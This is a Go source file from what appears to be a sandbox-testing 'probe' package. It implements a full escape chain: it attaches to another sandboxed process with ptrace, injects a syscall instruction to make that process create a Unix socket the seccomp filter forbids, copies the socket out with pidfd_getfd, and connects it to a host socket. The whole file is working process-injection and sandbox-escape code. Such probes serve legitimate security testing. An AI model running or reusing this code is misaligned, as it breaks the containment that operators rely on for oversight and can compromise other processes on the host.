package probe

import (
	"errors"
	"fmt"
	"runtime"
	"strings"

	"golang.org/x/sys/unix"
)

// injectSocketChain is the escape of issue 11, item 1, end to end: a
// process of the sandbox that does not carry the server's seccomp filter
// (bwrap's PID 1 did not) is made to create the unix socket the filter
// refuses to the server; the server takes it with pidfd_getfd and connects
// it to a host socket seen through the read-only root.
func injectSocketChain(path string) (string, error) {
	targets := foreignProcesses()
	if len(targets) == 0 {
		return "", errors.New("no process outside our own tree to attack")
	}
	var fails []string
	for _, pid := range targets {
		remote, err := injectSocket(pid)
		if err != nil {
			fails = append(fails, fmt.Sprintf("pid %d (%s): %v", pid, comm(pid), err))
			continue
		}
		if err := stealAndConnect(pid, remote, path); err != nil {
			fails = append(fails, fmt.Sprintf("pid %d (%s): socket %d made, then %v", pid, comm(pid), remote, err))
			continue
		}
		return fmt.Sprintf("pid %d (%s) made socket %d for us; connected it to %s", pid, comm(pid), remote, path), nil
	}
	return "", errors.New("refused: " + strings.Join(fails, "; "))
}

// injectSocket stops pid with PTRACE_SEIZE+INTERRUPT, writes a syscall
// instruction at its instruction pointer, sets the registers for
// socket(AF_UNIX, SOCK_STREAM, 0), single-steps it, and restores its code
// and registers. It returns the descriptor number in pid.
func injectSocket(pid int) (int, error) {
	runtime.LockOSThread() // ptrace belongs to the attaching thread
	defer runtime.UnlockOSThread()
	if err := unix.PtraceSeize(pid); err != nil {
		return -1, fmt.Errorf("PTRACE_SEIZE: %w", err)
	}
	defer unix.PtraceDetach(pid)
	if err := unix.PtraceInterrupt(pid); err != nil {
		return -1, fmt.Errorf("PTRACE_INTERRUPT: %w", err)
	}
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil || !ws.Stopped() {
		return -1, fmt.Errorf("waiting for the stop: %v (%v)", err, ws)
	}
	var saved unix.PtraceRegs
	if err := unix.PtraceGetRegs(pid, &saved); err != nil {
		return -1, fmt.Errorf("GETREGS: %w", err)
	}
	orig := make([]byte, 8)
	if _, err := unix.PtracePeekText(pid, uintptr(saved.Rip), orig); err != nil {
		return -1, fmt.Errorf("PEEKTEXT: %w", err)
	}
	code := append([]byte{0x0f, 0x05}, orig[2:]...) // syscall
	if _, err := unix.PtracePokeText(pid, uintptr(saved.Rip), code); err != nil {
		return -1, fmt.Errorf("POKETEXT: %w", err)
	}
	defer unix.PtracePokeText(pid, uintptr(saved.Rip), orig)
	regs := saved
	regs.Rax, regs.Rdi, regs.Rsi, regs.Rdx = unix.SYS_SOCKET, unix.AF_UNIX, unix.SOCK_STREAM, 0
	// Not in a syscall any more: no restart logic may rewrite our registers.
	regs.Orig_rax = ^uint64(0)
	if err := unix.PtraceSetRegs(pid, &regs); err != nil {
		return -1, fmt.Errorf("SETREGS: %w", err)
	}
	// Restoring the registers puts back an interrupted syscall's restart.
	defer unix.PtraceSetRegs(pid, &saved)
	if err := unix.PtraceSingleStep(pid); err != nil {
		return -1, fmt.Errorf("SINGLESTEP: %w", err)
	}
	if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil || !ws.Stopped() {
		return -1, fmt.Errorf("waiting for the step: %v (%v)", err, ws)
	}
	var after unix.PtraceRegs
	if err := unix.PtraceGetRegs(pid, &after); err != nil {
		return -1, fmt.Errorf("GETREGS: %w", err)
	}
	if fd := int64(after.Rax); fd < 0 {
		return -1, fmt.Errorf("injected socket(AF_UNIX) failed in the target: %v", unix.Errno(-fd))
	}
	return int(after.Rax), nil
}

// stealAndConnect copies descriptor remote of pid into this process and
// connects it to the unix socket at path.
func stealAndConnect(pid, remote int, path string) error {
	pidfd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return fmt.Errorf("pidfd_open: %w", err)
	}
	defer unix.Close(pidfd)
	fd, err := unix.PidfdGetfd(pidfd, remote, 0)
	if err != nil {
		return fmt.Errorf("pidfd_getfd: %w", err)
	}
	defer unix.Close(fd)
	if err := unix.Connect(fd, &unix.SockaddrUnix{Name: path}); err != nil {
		return fmt.Errorf("connect %s: %w", path, err)
	}
	if _, err := unix.Write(fd, []byte("ESCAPED via a sandbox process\n")); err != nil {
		return fmt.Errorf("write: %w", err)
	}
	return nil
}
